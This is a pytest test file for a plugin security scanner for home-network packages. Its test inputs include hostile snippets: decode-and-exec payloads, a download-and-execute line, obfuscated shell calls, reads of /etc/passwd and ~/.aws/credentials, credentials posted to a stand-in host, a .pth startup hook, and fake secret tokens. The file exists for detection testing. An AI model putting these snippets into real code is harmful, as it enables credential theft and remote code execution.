"""What the scanner finds in code, and what it leaves alone."""

from __future__ import annotations

import base64
import textwrap
import zlib

import pytest

from heimnetz_git.model.finding import Severity
from heimnetz_git.model.permission import FilePermissions, NetworkPermissions, Permissions
from heimnetz_git.scan.engine import Report, scan

EVERYTHING = Permissions(
    network=NetworkPermissions(
        connect=("*:*",), listen=("80", "8000"), multicast=("239.255.255.250:1900",), raw=True
    ),
    files=FilePermissions(read=("/",), write=("/",)),
    run=("/usr/bin/true", "/bin/sh", "/usr/sbin/ip", "/usr/bin/ping"),
    env=("TZ", "HOME"),
)


def scanned(code: str, permissions: Permissions | None = EVERYTHING) -> Report:
    """The report on one module."""
    return scan({"clock/__init__.py": textwrap.dedent(code).encode()}, permissions)


def found(code: str, permissions: Permissions | None = EVERYTHING) -> set[tuple[str, str]]:
    """Rule and severity of each finding in one module."""
    return {(it.rule, str(it.severity)) for it in scanned(code, permissions).findings}


RUNS = ("dynamic-code", "decode-execute", "download-execute")
DYNAMIC = [
    ("eval(text)", "medium"),
    ("import builtins\nbuiltins.exec(text)", "medium"),
    ("e = exec\ne(text)", "medium"),
    ("exec('a = 1')", "low"),
    ("exec('def f(:')", "medium"),
    ("exec('x = 1 #' + 'a' * 2_000_000)", "medium"),
    ("import base64\nexec(base64.b64decode(blob))", "high"),
    ("from base64 import b64decode as d\ncode = d(blob)\nexec(compile(code, 'a', 'exec'))", "high"),
    ("import marshal, zlib\nexec(marshal.loads(zlib.decompress(blob)))", "high"),
    ("import urllib.request as r\nexec(r.urlopen(url).read())", "high"),
    ("__import__('base64')\neval(__import__('base64').b64decode(x))", "high"),
    ("import pickle\npickle.loads(data)", "medium"),
    ("__import__(name)", "medium"),
    ("import importlib\nimportlib.import_module(name)", "low"),
    ("import os\ngetattr(os, name)('x')", "medium"),
]


@pytest.mark.parametrize(("code", "severity"), DYNAMIC)
def test_code_made_at_run_time_is_found(code: str, severity: str) -> None:
    """However the function is named, and worse when what it runs was hidden."""
    said = {found_as for rule, found_as in found(code) if rule in RUNS}
    assert severity in said
    assert severity == "high" or "high" not in said


SHELLS = [
    ("import os\nos.system('ls ' + x)", "medium"),
    ("from os import system as s\ns(x)", "medium"),
    ("import os\nrun = os.popen\nrun(x)", "medium"),
    ("import subprocess\nsubprocess.run(f'ping {x}', shell=True)", "medium"),
    ("import subprocess as sp\nsp.Popen(['sh', '-c', x])", "medium"),
    ("import subprocess\nsubprocess.check_output('uptime', shell=True)", "low"),
    ("import os\ngetattr(os, 'sys' + 'tem')(x)", "medium"),
    ("import sys\nsys.modules['os'].system(x)", "medium"),
    ("import os\nvars(os)['system'](x)", "medium"),
    ("import importlib\nimportlib.import_module('o' + 's').system(x)", "medium"),
    ("from functools import partial\nimport os\nrun = partial(os.system)\nrun(x)", "medium"),
    ("from os import *\nsystem(x)", "medium"),
]


@pytest.mark.parametrize(("code", "severity"), SHELLS)
def test_a_shell_is_found_behind_other_names(code: str, severity: str) -> None:
    """Aliases, folded strings and look-ups by name hide nothing."""
    assert ("shell-command", severity) in found(code)


UNDECLARED = [
    ("import urllib.request\nurllib.request.urlopen('https://example.org/x')", "network.connect"),
    ("import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 80))", "network.connect"),
    (
        """import socket
class A:
    def __init__(self): self.s = socket.socket()
    def go(self): self.s.sendto(b'', a)
""",
        "network.connect",
    ),
    ("import asyncio\nasync def f():\n  await asyncio.start_server(f, '', 80)", "network.listen"),
    ("import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW)", "network.raw"),
    ("import socket\nx = socket.IP_ADD_MEMBERSHIP", "network.multicast"),
    ("import subprocess\nsubprocess.run(['/usr/sbin/ip', 'neigh'])", "run"),
    ("open('/etc/passwd')", "files.read"),
    ("from pathlib import Path\nPath('/etc/passwd').read_text()", "files.read"),
    ("with open('/etc/cron.d/x', 'w') as f: pass", "files.write"),
    ("import os\nos.environ['AWS_KEY']", "env"),
]


@pytest.mark.parametrize(("code", "capability"), UNDECLARED)
def test_what_is_used_must_be_declared(code: str, capability: str) -> None:
    """Without a grant each is found; with one it is not."""
    said = [
        it for it in scanned(code, Permissions()).findings if it.rule == "permission-undeclared"
    ]
    assert [it.capability for it in said] == [capability]
    granted = Permissions(
        network=EVERYTHING.network, files=EVERYTHING.files, run=EVERYTHING.run, env=("AWS_KEY",)
    )
    assert not [it for it in scanned(code, granted).findings if it.rule == "permission-undeclared"]


def test_a_grant_for_one_file_is_no_grant_for_another() -> None:
    """Known paths are held to the folders that were granted."""
    granted = Permissions(files=FilePermissions(read=("/var/lib/misc",)))
    assert found("open('/var/lib/misc/dnsmasq.leases')", granted) == set()
    assert found("open('/var/lib/miscellany')", granted) == {("permission-undeclared", "medium")}


def test_permissions_that_nothing_uses_are_named() -> None:
    """A note only, and none when other packages could be what uses them."""
    granted = Permissions(network=NetworkPermissions(connect=("lan:9/udp",)))
    assert found("x = 1", granted) == {("permission-unused", "info")}
    assert found("import requests", granted) == set()


CREDENTIALS = [
    ("p = '~/.ssh/id_ed25519'", "low"),
    ("import os\nopen(os.path.expanduser('~/.aws/credentials'))", "medium"),
    (
        """import os, urllib.request
found = open(os.path.expanduser('~/.aws/credentials')).read()
urllib.request.urlopen('http://example.invalid', found)
""",
        "high",
    ),
]


@pytest.mark.parametrize(("code", "severity"), CREDENTIALS)
def test_paths_of_credentials_are_found(code: str, severity: str) -> None:
    """Worse when they flow into the network."""
    said = {how for rule, how in found(code) if rule in ("credential-files", "exfiltration")}
    assert severity in said


BENIGN = {
    "wake on lan": """
        import socket
        def wake(mac: str, address: str, source: str) -> None:
            packet = b"\\xff" * 6 + bytes.fromhex(mac.replace(":", "")) * 16
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                sock.bind((source, 0))
                sock.sendto(packet, (address, 9))
        """,
    "own data folder": """
        import json
        from pathlib import Path
        def save(context, devices):
            path = context.data / "devices.json"
            with open(path, "w") as file:
                json.dump(devices, file)
            (Path(__file__).parent / "vendors.txt").read_text()
        """,
    "ssdp": """
        import socket, struct
        def listen():
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.bind(("", 1900))
            group = struct.pack("4sl", socket.inet_aton("239.255.255.250"), socket.INADDR_ANY)
            sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
        """,
    "neighbours": """
        import subprocess
        def neighbours() -> str:
            return subprocess.run(
                ["/usr/sbin/ip", "-j", "neigh"], capture_output=True, text=True, timeout=5
            ).stdout
        """,
    "icon": """
        import base64, re
        ICON = base64.b64decode("iVBORw0KGgo=")
        WORD = re.compile("[a-z]+")
        def evaluate(model): return model.eval()
        """,
    "a method called open, a class called exec": """
        class Door:
            def open(self): ...
            def exec(self, code): return code
        Door().open()
        Door().exec("x")
        """,
}


@pytest.mark.parametrize("code", BENIGN.values(), ids=BENIGN)
def test_ordinary_code_raises_no_alarm(code: str) -> None:
    """Home-network code with its permissions declared is accepted without a word."""
    permissions = Permissions(
        network=NetworkPermissions(connect=("lan:9/udp",), multicast=("239.255.255.250:1900",)),
        run=("/usr/sbin/ip",),
    )
    findings = [it for it in scanned(code, permissions).findings if it.severity != Severity.INFO]
    assert findings == []


def github_token() -> str:
    """A token of GitHub's form with true check digits, made here and good for nothing."""
    body, digits = "x7Q" * 10, ""
    number = zlib.crc32(body.encode())
    alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    while number:
        number, digit = divmod(number, 62)
        digits = alphabet[digit] + digits
    return f"ghp_{body}{digits.rjust(6, '0')}"


def private_key() -> str:
    """A PEM block of an OpenSSH key's form, without a key in it."""
    body = base64.b64encode(b"openssh-key-v1\0" + bytes(range(90))).decode()
    return f"-----BEGIN OPENSSH PRIVATE KEY-----\n{body}\n-----END OPENSSH PRIVATE KEY-----\n"


SECRETS = [
    (github_token(), "high"),
    (private_key(), "medium"),
    ("AKIA" + "Z3QX7RTW5MNB2LKJ", "medium"),
    (github_token()[:-1] + "!", None),
    (github_token().swapcase(), None),
    ("ghp_" + "0" * 36, None),
    ("AKIAIOSFODNN7EXAMPLE", None),
    ("-----BEGIN PRIVATE KEY-----\n" + "not base sixty four " * 8 + "\n-----END", None),
    ("AIza" + "a" * 35, None),
]


@pytest.mark.parametrize(("text", "severity"), SECRETS)
def test_keys_are_told_from_look_alikes(text: str, severity: str | None) -> None:
    """Check digits and structure decide; the key is never repeated in the message."""
    report = scan({"README.md": f"key: {text}\n".encode()})
    said = [it for it in report.findings if it.rule == "secret"]
    assert [str(it.severity) for it in said] == ([severity] if severity else [])
    assert all(text not in it.message for it in said)


FILES = [
    ({"clock/a.py": "access = '\u202e' #\n".encode()}, "hidden-unicode", "high"),
    ({"clock/a.py": ("x = '" + "\U000e0041" * 8 + "'").encode()}, "hidden-unicode", "high"),
    ({"clock/a.py": b"# coding: utf-7\nx = 1\n"}, "source-encoding", "high"),
    ({"clock/a.pyc": b"\xa7\r\r\n"}, "binary-member", "high"),
    ({"clock/icon.png": b"\x7fELF\x02\x01\x01"}, "binary-member", "high"),
    ({"clock/fast.so": b"\x7fELF\x02\x01\x01"}, "binary-member", "medium"),
    ({"clock.pth": b"import os; os.system('id')"}, "startup-hook", "high"),
    ({"clock.pth": b"import clock_hack"}, "startup-hook", "medium"),
    ({"sitecustomize.py": b""}, "startup-hook", "high"),
    ({"clock/a.py": b"def f(:\n"}, "not-analysed", "medium"),
    ({"clock/a.py": b"x = 1\0"}, "not-analysed", "medium"),
    ({"clock/a.py": b"x = " + b"(" * 5000}, "not-analysed", "medium"),
    ({"clock/a.py": b"x = " + b"-" * 100_000 + b"1"}, "not-analysed", "medium"),
    ({"clock/a.py": b"#" * (3 << 20)}, "not-analysed", "medium"),
    ({"clock/a.py": b"# coding: nonsense\n"}, "not-analysed", "medium"),
]


@pytest.mark.parametrize(("files", "rule", "severity"), FILES)
def test_files_that_hide_something_are_found(
    files: dict[str, bytes], rule: str, severity: str
) -> None:
    """Hidden characters, odd encodings, binaries, hooks, and what cannot be read at all."""
    assert (rule, severity) in {(it.rule, str(it.severity)) for it in scan(files).findings}
